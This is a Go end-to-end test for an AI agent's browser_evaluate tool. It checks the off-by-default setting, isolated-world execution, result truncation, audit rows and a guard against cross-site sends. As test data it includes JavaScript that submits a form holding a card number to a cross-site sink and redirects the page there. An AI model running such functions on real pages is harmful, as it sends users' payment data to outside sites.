package e2e

import (
	"fmt"
	"strings"
	"testing"
	"time"
)

// TestPlaywrightEvaluate: browser_evaluate is refused unless the operator
// turns it on (LYRA_BROWSER_PLAYWRIGHT_EVALUATE=true); on, it runs the
// agent's function in lyrad's isolated world (the page's own globals are
// not there), on the page or on the target element, and what it sets off
// is judged by the guard: a function that sends a form to a cross-site
// sink, and one that sets location to it, reach the sink 0 times. Each
// call is an audit row naming browser_evaluate.
func TestPlaywrightEvaluate(t *testing.T) {
	parallel(t)
	needBrowser(t)
	a := newSite(t, "127.0.0.1")
	b := newSite(t, "127.0.0.2")
	a.page("/", fmt.Sprintf(`<!doctype html><title>Shop</title>
<form id=f method=post action="%[1]s/sink"><input name=card value=4111111111111111></form>
<button id=buy>Buy now</button>
<script>window.pageSecret = 42;</script>`, b.URL))
	b.page("/sink", `<!doctype html><title>Sink</title>you should not be here`)
	submit := `() => { document.getElementById('f').submit(); return 'sent'; }`
	relocate := fmt.Sprintf(`() => { location.href = %q; }`, b.URL+"/sink?via=location")

	// Off (the default): refused, nothing run.
	off := connectPW(t, t.TempDir(), nil, nil)
	pwOK(t, off, "browser_navigate", map[string]any{"url": a.URL + "/"})
	for _, fn := range []string{submit, relocate} {
		ans := pwCall(t, off, "browser_evaluate", map[string]any{"function": fn})
		if !ans.isError || !strings.Contains(ans.text, "LYRA_BROWSER_PLAYWRIGHT_EVALUATE") {
			t.Errorf("evaluate with the setting off:\n%s", ans)
		}
	}

	// On.
	dir := t.TempDir()
	on := connectPW(t, dir, nil, nil, "LYRA_BROWSER_PLAYWRIGHT_EVALUATE=true")
	nav := pwOK(t, on, "browser_navigate", map[string]any{"url": a.URL + "/"})
	if got := pwOK(t, on, "browser_evaluate", map[string]any{"function": "() => document.title"}).section("Result"); got != `"Shop"` {
		t.Errorf("evaluate on the page: ### Result %q", got)
	}
	if got := pwOK(t, on, "browser_evaluate", map[string]any{"function": "() => typeof window.pageSecret"}).section("Result"); got != `"undefined"` {
		t.Errorf("the function sees the page's own globals (%s): it did not run in the isolated world", got)
	}
	el := pwOK(t, on, "browser_evaluate", map[string]any{"element": "Buy button", "target": pwRef(t, nav, "button", "Buy now"),
		"function": "(el) => ({tag: el.tagName, text: el.textContent})"})
	if got := el.section("Result"); got != `{"tag":"BUTTON","text":"Buy now"}` {
		t.Errorf("evaluate on the target element: ### Result %q", got)
	}
	big := pwOK(t, on, "browser_evaluate", map[string]any{"function": "() => 'x'.repeat(100000)"}).section("Result")
	if len(big) > 8200 || !strings.Contains(big, "(cut at ") {
		t.Errorf("a large result is not cut: %d bytes", len(big))
	}

	for what, fn := range map[string]string{"a form sent to a cross-site sink": submit, "location set to a cross-site sink": relocate} {
		ans := pwCall(t, on, "browser_evaluate", map[string]any{"function": fn})
		if !ans.isError || !strings.Contains(ans.text, "(blocked_by_policy)") {
			t.Errorf("%s: want ### Error with blocked_by_policy:\n%s", what, ans)
		}
		if got := pwOK(t, on, "browser_tabs", map[string]any{"action": "list"}).section("Result"); strings.Contains(got, b.URL) {
			t.Errorf("%s: a tab on the sink's site:\n%s", what, got)
		}
	}
	// Both sends were judged: their refusals are in the audit, so whatever
	// would have reached the sink has had its chance.
	waitFor(t, "the guard's refusals of both sends", 30*time.Second, func() bool { return len(refusals(t, dir, "/sink")) >= 2 })
	if n := b.count("/sink"); n != 0 {
		t.Errorf("the sink was reached %d times", n)
	}
	rows := rowsWhere(auditRows(t, dir), has{"kind": "tool", "tool": "browser_evaluate"})
	if len(rows) != 6 {
		t.Errorf("%d browser_evaluate audit rows, want 6", len(rows))
	}
	if n := len(rowsWhere(auditRows(t, dir), has{"kind": "guard", "verdict": "deny"})); n < 2 {
		t.Errorf("%d guard deny rows, want 2 or more", n)
	}
}
